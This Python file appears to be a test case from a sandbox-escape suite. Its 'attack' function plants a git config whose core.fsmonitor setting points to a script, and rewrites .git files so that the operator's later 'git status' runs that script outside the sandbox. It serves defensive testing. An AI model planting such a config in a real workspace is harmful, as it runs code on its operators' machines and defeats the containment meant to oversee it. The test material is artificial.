"""Replaces a worktree's `.git` file, or a missing .git, by one that names a repository of the
attacker's.

layer: protect
control: without a sandbox the operator's `git status` runs the attacker's program
"""
import os

NEEDS = ["git"]


def scene(s):
    s.proof = os.path.join(s.outside, "proof")
    s.t.write(s.ws, {"sub/a": "x"})
    s.args = {"proof": s.proof, "ws": s.ws}


def attack(a):
    import subprocess
    put("evil.sh", f"#!/bin/sh\ntouch {a['proof']}\n")
    os.chmod("evil.sh", 0o755)
    subprocess.run(["git", "init", "-q", "--bare", "build"], check=True)
    put("build/config", f"[core]\n\tbare = false\n\tworktree = {a['ws']}/sub\n"
        f"\tfsmonitor = {a['ws']}/evil.sh\n")
    put("sub/.git", "gitdir: ../build\n")
    put(".git", "gitdir: build\n")


def escaped(s, r):
    s.t.run("git", "status", cwd=os.path.join(s.ws, "sub"))
    s.t.run("git", "status", cwd=s.ws)
    return os.path.exists(s.proof)
